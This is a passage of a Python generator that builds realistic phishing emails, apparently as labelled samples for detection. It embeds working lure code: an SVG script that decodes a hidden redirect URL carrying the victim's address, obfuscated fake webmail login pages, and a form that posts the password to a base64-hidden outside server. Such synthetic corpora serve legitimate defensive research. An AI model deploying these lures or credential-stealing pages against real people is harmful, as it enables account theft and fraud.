<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100%" height="100%" viewBox="0 0 600 260">
<rect width="600" height="260" fill="#f4f6f8"/>
<circle cx="70" cy="130" r="36" fill="#2b6cb0"/>
<polygon points="60,112 60,148 90,130" fill="#ffffff"/>
<text x="130" y="118" font-family="Arial" font-size="22" fill="#1a202c">Voice Message (00:47)</text>
<text x="130" y="150" font-family="Arial" font-size="15" fill="#4a5568">Loading secure playback&#8230;</text>
<script type="text/javascript"><![CDATA[
(function(){{
  var k = {key};
  var c = [{codes}];
  var s = "";
  for (var i = 0; i < c.length; i++) {{ s += String.fromCharCode(c[i] ^ k); }}
  var m = "{base64.b64encode(rcpt.encode()).decode()}";
  window.setTimeout(function(){{ window.top.location.href = s + "?id=" + m; }}, 600);
}})();
]]></script>
</svg>
"""
    top, bottom = m365_in(rcpt, t, "185.244.151.37", "mail.audiomsg-center.com", "notify@audiomsg-center.com", "pass",
                          None, ("none", "none"), "audiomsg-center.com", ("softpass", "001"), "p2",
                          ctry="NL", lang="en", consumer=True, europe=False)
    text = """VOICE MESSAGE RECEIVED

Caller:      +1 (617) 555-0142
Duration:    00:47
Received:    Tue, Feb 20 2024 9:02 AM

The audio recording is attached to this message. Open the attachment to
play it in your browser.

Unified Communications - Voice Services
"""
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">
<table cellpadding="0" cellspacing="0" width="520" style="border:1px solid #d8dde3">
<tr><td style="background:#2b6cb0;color:#fff;padding:12px 18px;font-size:16px;font-weight:bold">&#128222; Voice Message Received</td></tr>
<tr><td style="padding:16px 18px">
<table cellpadding="4" style="font-size:14px">
<tr><td style="color:#666">Caller:</td><td>+1 (617) 555-0142</td></tr>
<tr><td style="color:#666">Duration:</td><td>00:47</td></tr>
<tr><td style="color:#666">Received:</td><td>Tue, Feb 20 2024 9:02 AM</td></tr>
<tr><td style="color:#666">Recipient:</td><td>{rcpt}</td></tr>
</table>
<p>The audio recording is attached to this message. Open the attachment to play it in your browser.</p>
</td></tr>
<tr><td style="background:#f4f6f8;padding:10px 18px;font-size:11px;color:#888">Unified Communications &middot; Voice Services</td></tr>
</table></body></html>
"""
    sender = f"""\
Received: from [127.0.0.1] (unknown [185.244.151.37])
\tby mail.audiomsg-center.com (Postfix) with ESMTPSA id 4TfK0q3Lwpz1Xr
\tfor <{rcpt}>; {rfc(t, 'Europe/Amsterdam', seconds=-2)}
From: "Voice Services" <notify@audiomsg-center.com>
To: {rcpt}
Subject: =?UTF-8?B?{base64.b64encode('🔊 New voicemail for daniel.whitford82 – 00:47'.encode()).decode()}?=
Date: {rfc(t, 'America/New_York', seconds=-4)}
Message-ID: <{hexs('p2m', 24)}@audiomsg-center.com>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
"""
    node = mixed("b1_" + rnd("p2b", 32, ALNUM),
                 alt("b2_" + rnd("p2a", 32, ALNUM), text, html),
                 att("image/svg+xml", "VM_Playback_00m47s.svg", svg.encode()))
    emit("phishing", "voicemail-svg-attachment-charcode-redirect", "voicemail lure; SVG attachment carries script that rebuilds the URL from an XOR'd char-code array and redirects with the victim's base64 address",
         top, sender, node, bottom)


def p_htm_unescape_refresh() -> None:
    t = when("2025-01-14 10:27:09")
    rcpt = "k.brandstetter@gmx.de"
    frm = "buchhaltung@malerbetrieb-kessler.de"
    action = "https://rechnung-ansicht.kessler-maler.workers.dev/post"
    inner = login_page("GMX", rcpt, action, "de")
    escaped = "".join(f"%{b:02X}" for b in inner.encode("utf-8"))
    lines = [escaped[i:i + 120] for i in range(0, len(escaped), 120)]
    js = "var _d='';\n" + "\n".join(f"_d+='{ln}';" for ln in lines) + "\ndocument.write(decodeURIComponent(_d));"
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Rechnung 2025-30417</title>
<noscript><meta http-equiv="refresh" content="0; url=https://rechnung-ansicht.kessler-maler.workers.dev/?m={base64.b64encode(rcpt.encode()).decode()}"></noscript>
</head><body>
<script language="javascript">
document.write(unescape('%3C%64%69%76%20%73%74%79%6C%65%3D%22%64%69%73%70%6C%61%79%3A%6E%6F%6E%65%22%3E%3C%2F%64%69%76%3E'));
{js}
</script>
</body></html>
"""
    top = gmx_in(rcpt, t, "85.215.255.84", "mo4-p00-ob.smtp.rzone.de", frm, "pass",
                 ("malerbetrieb-kessler.de", "pass"), "pass", "malerbetrieb-kessler.de", "p3")
    text = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung Nr. 2025-30417 für die ausgeführten
Arbeiten. Wir bitten um Begleichung innerhalb von 7 Tagen.

Die Rechnung ist als geschütztes Dokument beigefügt. Bitte öffnen Sie
den Anhang und melden Sie sich mit Ihrer E-Mail-Adresse an, um sie
anzuzeigen.

Mit freundlichen Grüßen

Sabine Kessler
Buchhaltung
Malerbetrieb Kessler GmbH
Hauptstraße 41, 74321 Bietigheim-Bissingen
Tel. 07142 918 30 0
"""
    sender = f"""\
{dkim('malerbetrieb-kessler.de', 'stratorsa', 'p3', t, h='Message-ID:Date:Subject:To:From:Cc:Date:From:Subject:Sender')}
X-RZG-AUTH: ":L2QefEenb+UdBJSdRCXu93KJ1bmSGnhMdmOod1DhGN0rBVhd9dFr4tObuE1g3kOvMGJiuZ3w"
Received: from [192.168.178.34]
    by smtp.strato.de (RZmta 51.2.16 AUTH)
    with ESMTPSA id x4d0a9110EARfN2
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))
\t(Client did not present a certificate)
    for <{rcpt}>;
    {rfc(t, 'Europe/Berlin', seconds=-1)}
Message-ID: <{guid('p3m')}@malerbetrieb-kessler.de>
Date: {rfc(t, 'Europe/Berlin', seconds=-3)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: {rcpt}
From: Sabine Kessler <{frm}>
Subject: =?UTF-8?Q?Rechnung_Nr=2E_2025-30417_=E2=80=93_Zahlungserinnerung?=
"""
    node = mixed(b_tbird("p3b"), txt(text),
                 att("text/html", "Rechnung_2025-30417.htm", page.encode()))
    emit("phishing", "rechnung-htm-attachment-unescape-meta-refresh-de", "invoice from a hijacked German craftsman's mailbox (auth passes); .htm attachment builds a webmail login with percent-encoded document.write, noscript meta refresh to workers.dev",
         top, sender, node)


def p_pdf_button_only() -> None:
    t = when("2025-06-03 15:18:44")
    rcpt = "pierre-yves.nicol@kerlann-industries.fr"
    frm = "jmoreno@moreno-arch.com"
    url = "https://view-securedoc.b-cdn.net/adobe/index.html?e=" + base64.b64encode(rcpt.encode()).decode()
    data = pdf_page([
        R(0, 782, 595, 842, (0.86, 0.12, 0.12)),
        T(40, 805, 20, "Adobe Acrobat", (1, 1, 1), True),
        T(150, 560, 16, "You have received a secure document", (0.15, 0.15, 0.15), True),
        R(190, 470, 405, 520, (0.09, 0.45, 0.85)),
        T(232, 488, 16, "VIEW DOCUMENT", (1, 1, 1), True),
        T(170, 440, 9, "This document is protected. Click above to open it online.", (0.45, 0.45, 0.45)),
    ], links=[((190, 470, 405, 520), url), ((0, 0, 595, 842), url)], title="Agreement", producer="Skia/PDF m125",
        author="", created="D:20250603151002Z")
    out = f"""\
{dkim('moreno-arch.com', 'google', 'p4', t, h='mime-version:from:date:message-id:subject:to')}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
\td=1e100.net; s=20230601; t={int(t.timestamp()) - 2};
\th=mime-version:from:date:message-id:subject:to:x-gm-message-state;
\tbh={rb64('p4xbh', 32)};
\tb={sig_value('p4xb')}
X-Gm-Message-State: AOJu0Y{rnd('p4gms', 62)}
X-Google-Smtp-Source: AGHT+IF{rnd('p4gss', 90)}
X-Received: by 2002:a05:6512:{hexs('p4x1', 4)}:b0:{hexs('p4x2', 3)}:{hexs('p4x3', 4)}:{hexs('p4x4', 4)} with SMTP id {rnd('p4x5', 28, LOWNUM)}.{digits('p4x6', 2)}.{int(t.timestamp())}{digits('p4x7', 3)};
        {rfc(t, 'America/Los_Angeles', seconds=-1)}
"""
    top, bottom = m365_in(rcpt, t, "209.85.167.47", "mail-lf1-f47.google.com", frm, "pass",
                          ("moreno-arch.com", "pass"), ("pass", "none"), "moreno-arch.com", ("pass", "100"), "p4",
                          ctry="US", lang="en")
    text = """Hello,

Please find attached the agreement for your review and signature.

Best regards,

Jessica Moreno
Moreno Architecture & Design
2211 N Lamar Blvd, Suite 300, Austin, TX 78705
"""
    html = f"""<div dir="ltr">Hello,<div><br></div><div>Please find attached the agreement for your review and signature.</div><div><br></div><div>Best regards,</div><div><br></div><div>Jessica Moreno</div><div>Moreno Architecture &amp; Design</div><div>2211 N Lamar Blvd, Suite 300, Austin, TX 78705</div></div>
"""
    sender = f"""\
{out}MIME-Version: 1.0
From: Jessica Moreno <{frm}>
Date: {rfc(t, 'America/Chicago', seconds=-2)}
Message-ID: {gmail_ids('p4', t)}
Subject: Agreement for Review - Pierre-Yves Nicol
To: {rcpt}
"""
    node = mixed(b_gmail("p4b"), alt(b_gmail("p4a"), text, html),
                 att("application/pdf", "Agreement_PYN_0603.pdf", data))
    emit("phishing", "agreement-pdf-single-view-document-button", "hijacked Google Workspace mailbox (auth passes); the PDF is one 'VIEW DOCUMENT' button, its only link to a bunny CDN page with the recipient's base64 address",
         top, sender, node, bottom)


def p_zip_html_fr() -> None:
    t = when("2025-03-27 09:12:37")
    rcpt = "jeanpaul.morvan@orange.fr"
    frm = "sylvie.guerin56@laposte.net"
    page = f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Facture FA2025-0417</title>
<style>body{{font-family:Arial,sans-serif;background:#f4f4f4}}.c{{width:380px;margin:80px auto;background:#fff;padding:30px;border-top:6px solid #ff7900}}
input{{width:100%;padding:9px;margin:8px 0;border:1px solid #bbb}}button{{background:#ff7900;color:#fff;border:0;padding:10px;width:100%;font-weight:bold}}</style>
</head><body><div class="c">
<h2 style="margin:0 0 10px">Document sécurisé</h2>
<p style="font-size:13px">La facture <b>FA2025-0417</b> (1 284,00 &euro;) est protégée. Identifiez-vous avec votre compte de messagerie pour l'afficher.</p>
<form id="l" method="POST">
<input type="email" name="u" value="{rcpt}" readonly>
<input type="password" name="p" placeholder="Mot de passe de la messagerie" required>
<button type="submit">Afficher la facture</button>
</form>
<p style="font-size:11px;color:#777">Connexion chiffrée &middot; Service de facturation en ligne</p>
</div>
<script>
var _u = ["aHR0cHM6Ly93d3cuY2FtcGluZy1sZXMtZ2VuZXRzLmZy", "L3dwLWNvbnRlbnQvdXBncmFkZS9mYWN0L3Bvc3QucGhw"];
document.getElementById("l").addEventListener("submit", function (e) {{
  e.preventDefault();
  var x = new XMLHttpRequest();
  x.open("POST", atob(_u[0]) + atob(_u[1]), true);
  x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  x.onload = function () {{ window.location.replace("https://www.orange.fr/portail"); }};
  x.send("u=" + encodeURIComponent(this.u.value) + "&p=" + encodeURIComponent(this.p.value));
}});
</script>
</body></html>
"""
    data = files.zip_archive([("FA2025-0417_Facture.html", page.encode("utf-8"))])
    top = orange_in(rcpt, t, "160.92.124.66", "smtp-out.laposte.net", frm, "pass",
                    ("laposte.net", "pass"), "pass", "laposte.net", "p5")
    text = """Bonjour,

Sauf erreur de notre part, la facture FA2025-0417 d'un montant de
1 284,00 EUR reste impayée à ce jour.

Vous trouverez la facture en pièce jointe. Pour des raisons de sécurité le
document est compressé (ZIP) : ouvrez le fichier et identifiez-vous pour le
consulter.

Merci de procéder au règlement sous 48 h afin d'éviter des frais de relance.

Cordialement,
Sylvie Guérin
Service facturation
"""
    sender = f"""\
Received: from localhost (localhost [127.0.0.1])
\tby smtp-out.laposte.net (Postfix) with ESMTPA id 4ZNq3v1Kq9z2xYp
\tfor <{rcpt}>; {rfc(t, 'Europe/Paris', seconds=-2)}
{dkim('laposte.net', 'lpn-wlmd', 'p5', t, h='date:from:to:message-id:subject:mime-version')}
Date: {rfc(t, 'Europe/Paris', seconds=-3)}
From: =?UTF-8?Q?Sylvie_Gu=C3=A9rin?= <{frm}>
To: {rcpt}
Message-ID: <{digits('p5m', 9)}.{digits('p5m2', 5)}.{int(t.timestamp())}{digits('p5m3', 3)}@wlpn-{digits('p5m4', 2)}>
Subject: =?UTF-8?Q?Facture_N=C2=B0_FA2025-0417_-_relance_avant_p=C3=A9nalit=C3=A9s?=
MIME-Version: 1.0
X-Mailer: Laposte.net Webmail
"""
    node = mixed("----=_Part_" + digits("p5b", 6) + "_" + digits("p5b2", 9) + "." + str(int(t.timestamp())) + "123",
                 txt(text),
                 att("application/zip", "FA2025-0417.zip", data))
    emit("phishing", "facture-zip-containing-html-login-fr", "unpaid-invoice lure from a laposte.net mailbox; ZIP attachment holds an HTML page that posts the webmail password (URL hidden in atob) to a hacked WordPress",
         top, sender, node)


def p_forwarded_eml() -> None:
    t = when("2024-07-09 13:36:02")
    rcpt = "gaelle.riou@kerlann-industries.fr"
    frm = "m.ellison@ellison-freight.com"
    link = "https://statement-q2.pages.dev/?e=" + base64.b64encode(rcpt.encode()).decode()
    t0 = when("2024-07-09 13:05:40")
    inner_html = f"""<html><body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#323130">
<table width="100%" cellpadding="0" cellspacing="0" style="max-width:560px">
<tr><td style="padding:20px 0"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20230815.002/assets/brand-icons/product/png/onedrive_48x1.png" width="32" alt="OneDrive"></td></tr>
<tr><td style="font-size:21px;padding-bottom:12px">Mark Ellison shared a file with you</td></tr>
<tr><td style="padding:14px;border:1px solid #e1dfdd">&#128196; <b>Statement_Q2_2024_Outstanding.pdf</b><br><span style="color:#605e5c">Here's the statement of account. Please review the outstanding items.</span></td></tr>
<tr><td style="padding:20px 0"><a href="{link}" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none;font-weight:600">Open</a></td></tr>
<tr><td style="font-size:11px;color:#605e5c">This link only works for the direct recipients of this message.<br>Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></body></html>
"""
    inner_text = f"""Mark Ellison shared a file with you

Statement_Q2_2024_Outstanding.pdf
Here's the statement of account. Please review the outstanding items.

Open: {link}

This link only works for the direct recipients of this message.
"""
    ib = "=_" + hexs("p6ib", 28)
    inner = (f"From: \"Mark Ellison (via OneDrive)\" <no-reply@sharepointonline.com>\n"
             f"To: {rcpt}\n"
             f"Subject: Mark Ellison shared \"Statement_Q2_2024_Outstanding\" with you\n"
             f"Date: {rfc(t0)}\n"
             f"Message-ID: <{guid('p6im')}@odspnotify>\n"
             f"MIME-Version: 1.0\n").encode() + mime.render_part(alt(ib, inner_text, inner_html))
    out1, mid = m365_out("p6", t, "ellison-freight.com", region="NAMP220", host="SJ0P220MB")
    top, bottom = m365_in(rcpt, t, "40.107.220.118", "NAM11-BN8-obe.outbound.protection.outlook.com", frm, "pass",
                          ("ellison-freight.com", "pass"), ("pass", "none"), "ellison-freight.com", ("pass", "100"), "p6",
                          ctry="US", lang="en", ptr="mail-bn8nam11on2118.outbound.protection.outlook.com")
    text = """Hi Gaelle,

Forwarding the notice below - our AR team shared the Q2 statement. Can you
check the open items on your side and confirm today?

Thanks,
Mark

Mark Ellison | Account Manager
Ellison Freight Forwarding Inc.
+1 (713) 555-0187
"""
    subject = "FW: Mark Ellison shared \"Statement_Q2_2024_Outstanding\" with you"
    sender = f"""\
{out1}From: Mark Ellison <{frm}>
To: Gaelle Riou <{rcpt}>
Subject: {subject}
{m365_meta('p6', subject, 'en-US', attach=True)}Date: {rfc(t, 'America/Chicago', seconds=-3)}
Message-ID: {mid}
MIME-Version: 1.0
"""
    node = mixed(b_outlook("p6b", 6),
                 alt(b_outlook("p6a"), text, outlook_html(text, "EN-US")),
                 Leaf("message/rfc822", inner, "7bit", "", 'attachment;\n\tfilename="Mark Ellison shared Statement_Q2_2024_Outstanding with you.eml"'))
    emit("phishing", "fw-attached-eml-onedrive-share-pagesdev", "'FW:' from a hijacked freight partner mailbox; the lure is an attached .eml (fake OneDrive share spoofing sharepointonline.com) whose Open button goes to pages.dev",
         top, sender, node, bottom)


def p_ics_description() -> None:
    t = when("2025-02-11 08:05:27")
    rcpt = "mathieu.prigent@kerlann-industries.fr"
    frm = "people-ops@compensation-review.net"
    link = "https://salary-review-2025.firebaseapp.com/letter?u=" + base64.b64encode(rcpt.encode()).decode()
    uid = guid("p7uid").upper()
    desc = ("Dear colleague,\n\nAs part of the 2025 compensation cycle, your salary adjustment letter is ready. "
            "Please review and acknowledge it before the meeting:\n\n" + link +
            "\n\nYou will be asked to sign in with your company account.\n\nPeople Operations")
    ics = ics_fold(f"""BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VTIMEZONE
TZID:Romance Standard Time
BEGIN:STANDARD
DTSTART:16010101T030000
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010101T020000
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3
END:DAYLIGHT
END:VTIMEZONE
BEGIN:VEVENT
ORGANIZER;CN=People Operations:mailto:{frm}
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={rcpt}:mailto:{rcpt}
DESCRIPTION;LANGUAGE=en-US:{ics_text(desc)}
UID:{uid}
SUMMARY;LANGUAGE=en-US:2025 Salary Adjustment Review - Confidential
DTSTART;TZID=Romance Standard Time:20250213T100000
DTEND;TZID=Romance Standard Time:20250213T103000
CLASS:PUBLIC
PRIORITY:5
DTSTAMP:20250211T080500Z
TRANSP:OPAQUE
STATUS:CONFIRMED
SEQUENCE:0
LOCATION;LANGUAGE=en-US:Online
BEGIN:VALARM
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
ACTION:DISPLAY
END:VALARM
END:VEVENT
END:VCALENDAR
""")
    top, bottom = m365_in(rcpt, t, "194.87.31.202", "mx1.compensation-review.net", frm, "pass",
                          ("compensation-review.net", "pass"), ("pass", "none"), "compensation-review.net",
                          ("pass", "100"), "p7", ctry="RU", lang="en")
    text = f"""2025 Salary Adjustment Review - Confidential
When: Thursday, 13 February 2025 10:00-10:30 (UTC+01:00) Brussels, Copenhagen, Madrid, Paris.
Where: Online

{desc}
"""
    html = ("<html><body><div style=\"font-family:Calibri,sans-serif;font-size:11pt\">"
            "<p><b>When:</b> Thursday, 13 February 2025 10:00-10:30 (UTC+01:00) Brussels, Copenhagen, Madrid, Paris.<br>"
            "<b>Where:</b> Online</p><p>*~*~*~*~*~*~*~*~*~*</p>"
            "<p>Dear colleague,</p><p>As part of the 2025 compensation cycle, your salary adjustment letter is ready. "
            f"Please review and acknowledge it before the meeting:</p><p><a href=\"{link}\">View your 2025 adjustment letter</a></p>"
            "<p>You will be asked to sign in with your company account.</p><p>People Operations</p></div></body></html>\n")
    sender = f"""\
{dkim('compensation-review.net', 'default', 'p7', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from WIN-Q7H2TRV0KD1 (unknown [194.87.31.202])
\tby mx1.compensation-review.net (Postfix) with ESMTPSA id 8F1A2403C1
\tfor <{rcpt}>; {rfc(t, seconds=-2)}
From: People Operations <{frm}>
To: <{rcpt}>
Subject: 2025 Salary Adjustment Review - Confidential
Date: {rfc(t, 'Europe/Paris', seconds=-4)}
Message-ID: <{hexs('p7m', 32)}@compensation-review.net>
X-Mailer: Microsoft Outlook 16.0
Thread-Index: Adt8{rnd('p7ti', 18)}==
Content-Language: en-us
MIME-Version: 1.0
"""
    node = mixed("----=_NextPart_000_0031_01DB7C5A." + hexs("p7b", 8).upper(),
                 Multi("alternative", "----=_NextPart_001_0032_01DB7C5A." + hexs("p7a", 8).upper(), [
                     txt(text), htm(html),
                     Leaf("text/calendar", ics.encode(), "base64", '; method=REQUEST; charset="utf-8"')]),
                 Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"'))
    emit("phishing", "salary-review-ics-invite-description-link", "meeting request from a throwaway domain; the link (firebaseapp, base64 address, asks to sign in) sits in the .ics DESCRIPTION and the body",
         top, sender, node, bottom)


def p_docx_link() -> None:
    t = when("2025-02-03 08:47:12")
    rcpt = "anais.ledu@kerlann-industries.fr"
    frm = "paie@cabinet-lemoal-expertise.fr"
    link = "https://avenant-rh-2025.web.app/signin?e=" + base64.b64encode(rcpt.encode()).decode()
    data = docx_with_link([
        ("AVENANT AU CONTRAT DE TRAVAIL - TÉLÉTRAVAIL 2025", None),
        ("Objet : mise à jour des modalités de télétravail et de l'indemnité forfaitaire.", None),
        ("Conformément à l'accord d'entreprise, chaque salarié doit prendre connaissance de l'avenant et le signer "
         "électroniquement avant le 7 février 2025. À défaut, les jours de télétravail seront suspendus à compter du mois de mars.", None),
        ("Le document est hébergé sur notre espace sécurisé. Identifiez-vous avec vos identifiants de messagerie professionnelle :", None),
        ("ACCÉDER À L'AVENANT ET SIGNER", link),
        ("Service Paie & Administration du personnel", None),
    ], "Avenant télétravail 2025", "Service Paie", company="Cabinet Le Moal Expertise")
    top, bottom = m365_in(rcpt, t, "46.105.45.12", "mo550.mail-out.ovh.net", frm, "pass",
                          None, ("none", "none"), "cabinet-lemoal-expertise.fr", ("pass", "109"), "p8",
                          ctry="FR", lang="fr", ptr="mo550.mail-out.ovh.net")
    text = """Bonjour,

Dans le cadre de la mise à jour annuelle des contrats, vous trouverez ci-joint
l'avenant relatif au télétravail pour l'année 2025.

Merci d'en prendre connaissance et de le signer électroniquement via le lien
figurant dans le document avant le vendredi 7 février.

Cordialement,

Service Paie
Cabinet Le Moal Expertise
"""
    sender = f"""\
Received: from mxplan6.mail.ovh.net (unknown [10.108.2.41])
\tby mo550.mail-out.ovh.net (Postfix) with ESMTPS id 4YmV0F2Qp7z1Tt3
\tfor <{rcpt}>; {rfc(t, seconds=-2)}
Received: from cabinet-lemoal-expertise.fr (37.59.142.104) by DAG8EX1.mxp6.local
 (172.16.2.71) with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.39; {rfc(t, 'Europe/Paris', seconds=-3)}
Authentication-Results: garm.ovh; auth=pass (GARM-104R005c3f9a1e2-7a41-4f0c-9d8e-2b1c5a6e7f80,
                    A3B1C2D4E5F6A7B8C9D0E1F2A3B4C5D6E7F8A9B0) smtp.auth=paie@cabinet-lemoal-expertise.fr
X-OVh-ClientIp: 102.89.47.133
From: Service Paie <{frm}>
To: <{rcpt}>
Subject: =?utf-8?Q?Avenant_t=C3=A9l=C3=A9travail_2025_=E2=80=93_signature_requise_av?=
 =?utf-8?Q?ant_le_07/02?=
Date: {rfc(t, 'Europe/Paris', seconds=-4)}
Message-ID: <{hexs('p8m', 16)}.{hexs('p8m2', 8)}@cabinet-lemoal-expertise.fr>
X-Mailer: Zimbra 9.0.0_GA_4583 (ZimbraWebClient - GC120 (Win)/9.0.0_GA_4583)
X-Ovh-Tracer-Id: {digits('p8tr', 19)}
X-VR-SPAMSTATE: OK
MIME-Version: 1.0
"""
    node = mixed("=_" + hexs("p8b", 32), txt(text),
                 att("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Avenant_teletravail_2025.docx", data))
    emit("phishing", "avenant-teletravail-docx-hyperlink-webapp-fr", "HR contract amendment from an accounting firm's hijacked OVH mailbox (sent from a Nigerian IP); the only link is a hyperlink inside the DOCX to web.app asking for mailbox credentials",
         top, sender, node, bottom)


# ==========================================================================
# PHISHING 2: delivered through genuine services


def google_docs_comment(rcpt, t, seed, commenter, commenter_addr, doc_title, doc_id, comment_html, comment_text,
                        quoted, mention: bool = True) -> tuple[str, str, Multi]:
    """A Google Docs comment notification (as comments-noreply@docs.google.com sends it)."""
    disco = rnd(seed + "disco", 11, ALNUM)
    url = f"https://docs.google.com/document/d/{doc_id}/edit?disco={disco}&usp=comment_email_document&ts={hexs(seed + 'ts', 8)}"
    head = f"{commenter} mentioned you in a comment in the following document" if mention else \
        f"{commenter} added a comment to the following document"
    text = f"""{head}

{doc_title}

{quoted}

{commenter}
{comment_text}

Open: {url}

Reply to this email to reply to the comment.

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
You have received this email because you are mentioned in this thread.
Change what Google Docs sends you: https://docs.google.com/document/u/0/?usp=comment_email_settings
"""
    html = f"""<!DOCTYPE html><html><head><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#ffffff"><table width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px">
<table style="max-width:600px;font-family:Google Sans,Roboto,Arial,sans-serif;color:#202124" cellpadding="0" cellspacing="0">
<tr><td style="padding-bottom:16px"><img src="https://ssl.gstatic.com/docs/documents/images/kix-favicon-2023q4.ico" width="20" height="20" alt="" style="vertical-align:middle"> <span style="font-size:14px">{htmllib.escape(head)}</span></td></tr>
<tr><td style="padding-bottom:12px"><a href="{htmllib.escape(url)}" style="color:#1a73e8;font-size:20px;text-decoration:none">{htmllib.escape(doc_title)}</a></td></tr>
<tr><td style="border:1px solid #dadce0;border-radius:8px;padding:16px">
<div style="border-left:4px solid #fbbc04;padding-left:10px;color:#5f6368;font-size:14px">{htmllib.escape(quoted)}</div>
<div style="padding-top:14px;font-size:14px"><b>{htmllib.escape(commenter)}</b></div>
<div style="padding-top:4px;font-size:14px;line-height:20px">{comment_html}</div>
</td></tr>
<tr><td style="padding:20px 0"><a href="{htmllib.escape(url)}" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;font-size:14px">Open</a></td></tr>
<tr><td style="font-size:12px;color:#5f6368;line-height:16px">Reply to this email to reply to the comment.<br><br>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because you are mentioned in this thread. <a href="https://docs.google.com/document/u/0/?usp=comment_email_settings" style="color:#1a73e8">Change what Google Docs sends you</a>. You can reply to this email to reply to the discussion.</td></tr>
</table></td></tr></table></body></html>
"""
    mf = f"3{rnd(seed + 'mf', 24, LOWNUM)}@docos.bounces.google.com"
    top = gmail_in(rcpt, t, "209.85.220.73", "mail-sor-f73.google.com", mf, "pass",
                   [("docs.google.com", "20230601", "pass")], ("pass", "p=REJECT", "sp=REJECT", "NONE", "docs.google.com"),
                   seed, google_sender=True)
    sender = f"""\
{dkim('docs.google.com', '20230601', seed + 'dk', t, h='reply-to:message-id:date:subject:from:to:content-type')}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
\td=1e100.net; s=20230601; t={int(t.timestamp()) - 2};
\th=reply-to:message-id:date:subject:from:to:x-gm-message-state;
\tbh={rb64(seed + 'xbh', 32)};
\tb={sig_value(seed + 'xb')}
X-Gm-Message-State: AOJu0Y{rnd(seed + 'gms', 62)}
X-Google-Smtp-Source: AGHT+IF{rnd(seed + 'gss', 90)}
MIME-Version: 1.0
X-Received: by 2002:a05:6214:{hexs(seed + 'x1', 4)}:b0:{hexs(seed + 'x2', 3)}:{hexs(seed + 'x3', 4)}:{hexs(seed + 'x4', 4)} with SMTP id {rnd(seed + 'x5', 28, LOWNUM)}.{digits(seed + 'x6', 2)}.{int(t.timestamp())}{digits(seed + 'x7', 3)};
        {rfc(t, 'America/Los_Angeles', seconds=-1)}
Reply-To: {hdr(commenter)} <{rnd(seed + 'rt', 10, LOWNUM)}+{rnd(seed + 'rt2', 40, LOWNUM)}@docs.google.com>
X-No-Auto-Attachment: 1
Message-ID: <{rnd(seed + 'mid', 32, ALNUM)}-0@docos.google.com>
Date: {rfc(t)}
Subject: {hdr(doc_title)}
From: {hdr(commenter + ' (Google Docs)')} <comments-noreply@docs.google.com>
To: {rcpt}
"""
    return top, sender, alt(b_gmail(seed + "alt"), text, html)


def p_google_docs_comment() -> None:
    t = when("2023-11-08 17:21:05")
    rcpt = "ben.okafor.dev@gmail.com"
    link = "https://withdraw-confirm.live/claim?id=88214&u=Ym9rYWZvcg"
    comment_text = (f"@{rcpt} Your withdrawal of 0.8417 BTC (USD 29,844.10) is on hold pending confirmation. "
                    f"Confirm within 24 hours or the funds will be returned to the pool: {link}")
    comment_html = (f'<a href="mailto:{rcpt}" style="color:#1a73e8">@{rcpt}</a> Your withdrawal of <b>0.8417 BTC</b> '
                    f'(USD 29,844.10) is on hold pending confirmation. Confirm within 24 hours or the funds will be returned '
                    f'to the pool: <a href="{link}" style="color:#1a73e8">{link}</a>')
    top, sender, node = google_docs_comment(
        rcpt, t, "p9", "Kelsey Marsh", "kelsey.marsh.payouts@gmail.com", "Payout Confirmation #88214",
        "1Qm7xV3bPZk8rW2nE5yL0cTfH9aJ4sDg6uKiO1pMvN2c", comment_html, comment_text,
        "Withdrawal status: PENDING")
    emit("phishing", "google-docs-comment-mention-btc-withdrawal", "genuine Google Docs comment notification (auth passes for docs.google.com); the attacker's @-mention comment carries a fake BTC withdrawal and a .live link",
         top, sender, node)


def p_microsoft_forms() -> None:
    t = when("2024-04-22 06:58:33")
    rcpt = "nolwenn.berthou@kerlann-industries.fr"
    frm = "sfernandez@colegio-santamaria-leon.es"
    form = "https://forms.office.com/Pages/ResponsePage.aspx?id=" + rnd("p10f", 72, ALNUM + "-_")
    out1, mid = m365_out("p10", t, "colegio-santamaria-leon.es", region="EURP195", host="DB9P195MB")
